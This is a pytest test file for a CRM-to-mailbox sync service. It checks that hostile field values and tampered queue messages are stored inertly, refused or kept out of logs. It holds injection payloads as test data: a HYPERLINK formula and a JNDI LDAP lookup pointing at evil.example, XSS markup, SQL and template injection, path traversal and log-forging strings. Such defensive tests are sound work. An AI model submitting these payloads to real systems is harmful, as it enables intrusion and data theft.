from __future__ import annotations

import json
import logging

import pytest

from sync_core.domain import RunMode, Trigger
from sync_core.engine.ports import RunRequest
from sync_core.errors import InvalidRequest
from sync_core.operations import poison_message, work, work_message
from sync_core.operations.views import recorded_view
from sync_core.queues import read_message
from sync_core.storage import Put, Table
from tests.scenarios.world import World, new_world

HOSTILE = {
    "spreadsheet formula": '=HYPERLINK("https://evil.example","x")',
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "log line": "x ERROR sync_core: forged line",
    "terminal command": "a\u009b31mred",
    "lookup": "${jndi:ldap://evil.example/a} {0.__class__} %s %n",
    "right to left": "abc\u202egnp.exe",
    "query": "' or 1=1; --",
    "template": "{{7*7}} #{7*7}",
}


async def linked_world() -> World:
    """One connection with one contact."""
    world = new_world()
    await world.connect()
    world.write_in_crm("Lovelace", "Ada")
    await world.sync()
    return world


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_value_is_only_a_value(name: str, caplog: pytest.LogCaptureFixture) -> None:
    """It arrives as it is, stands in the history as JSON, and never in the log."""
    caplog.set_level(logging.DEBUG)
    world, value = await linked_world(), HOSTILE[name]
    world.edit_in_crm("Lovelace", comments=value, position=value)
    await world.sync()
    assert world.person("Lovelace")["personalNotes"].strip() == value
    (entry,) = [item for item in await world.history() if len(item.entry.changes) >= 2]
    written = json.dumps(recorded_view(entry))
    assert value in {change["new"] for change in json.loads(written)["changes"]}
    assert value not in caplog.text


TAMPERED = {
    "no JSON": b"connection_id=1",
    "no UTF-8": b"\xff\xfe",
    "an unknown word": b'{"connection_id": "a", "trigger": "x", "role": "Sync.Administrator"}',
    "an unknown mode": b'{"connection_id": "a", "trigger": "x", "mode": "disconnect"}',
    "no connection": b'{"connection_id": "", "trigger": "timer"}',
    "a long id": json.dumps({"connection_id": "a" * 65, "trigger": "timer"}).encode(),
    "a list": b"[]",
    "deep": b"[" * 20_000,
}


@pytest.mark.parametrize("name", TAMPERED)
async def test_a_tampered_message_does_nothing(name: str) -> None:
    """It is given up without a run, and the error does not repeat it."""
    world = await linked_world()
    written = world.store.counts.rows_written
    with pytest.raises(InvalidRequest) as refused:
        await work_message(world.deployment, TAMPERED[name], "message-1")
    assert world.store.counts.rows_written == written
    assert "Administrator" not in str(refused.value)


@pytest.mark.parametrize("part", ["connection_id", "run_id"])
@pytest.mark.parametrize(
    "text", ["../connections", "1.lease", "a\u0000b", "a/b?c#d", "x\nERROR forged: all deleted", "a\n", "a\u2028b", "ä"]
)
async def test_a_message_with_odd_ids_is_refused(part: str, text: str, caplog: pytest.LogCaptureFixture) -> None:
    """It is given up without a run, whichever handler gets it, and what it holds forges no line of the log."""
    caplog.set_level(logging.DEBUG)
    world = await linked_world()
    written = world.store.counts.rows_written
    body = json.dumps({"connection_id": world.record.id, "trigger": "timer", part: text}).encode()
    with pytest.raises(InvalidRequest) as refused:
        await work_message(world.deployment, body, "message-1")
    await poison_message(world.deployment, body, "message-1")
    assert world.store.counts.rows_written == written
    assert text not in f"{caplog.text}{refused.value}"
    assert all(len(record.getMessage().splitlines()) == 1 for record in caplog.records)


@pytest.mark.parametrize("connection_id", ["unknown", "a" * 64, "lease"])
async def test_a_message_of_a_made_up_connection_writes_nothing(connection_id: str) -> None:
    """Whatever id it names: a message can only ask for a run of a connection that is registered."""
    world = await linked_world()
    written = world.store.counts.rows_written
    body = json.dumps({"connection_id": connection_id, "trigger": "timer"}).encode()
    await work_message(world.deployment, body, "message-1")
    assert world.store.counts.rows_written == written


async def test_a_replayed_message_changes_no_contact() -> None:
    """The same message again and again finds nothing left to do."""
    world = await linked_world()
    world.edit_in_crm("Lovelace", city="London")
    request = RunRequest(world.record.id, Trigger.TIMER, RunMode.FULL, f"{world.record.id}-replay")
    first = await work(world.deployment, request, "message-1")
    assert first is not None
    for worker in ("message-1", "message-2"):
        again = await work(world.deployment, request, worker)
        assert again is not None
        assert again.run.counts.writes == 0
    assert len(world.outlook()) == len(world.customers()) == 1


def test_a_message_holds_no_more_than_ids() -> None:
    """There is no field in which a value could travel."""
    body = b'{"connection_id": "a", "trigger": "timer", "mode": "full", "run_id": "a-1"}'
    assert read_message(body) == RunRequest("a", Trigger.TIMER, RunMode.FULL, "a-1")


async def test_rows_that_somebody_changed_stop_the_connection_not_the_services(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A registered connection whose row is nonsense runs nothing; no service is asked, and the text stays unsaid."""
    world = await linked_world()
    (row,) = await world.deployment.store.read(Table.CONNECTIONS, "connections", "connection.", "connection/")
    assert row.key == f"connection.{world.record.id}"
    requests = world.graph.total_requests
    await world.deployment.store.transact(Table.CONNECTIONS, "connections", [_broken(row.key)])
    await work_message(
        world.deployment, json.dumps({"connection_id": world.record.id, "trigger": "timer"}).encode(), "m"
    )
    assert (await world.deployment.registry.get(world.record.id)).reason == "unreadable"
    assert world.record.id in caplog.text
    assert "canary" not in caplog.text
    assert world.graph.total_requests == requests


def _broken(key: str) -> Put:
    return Put(key, '{"id": "x", "mailbox": "canary"}')
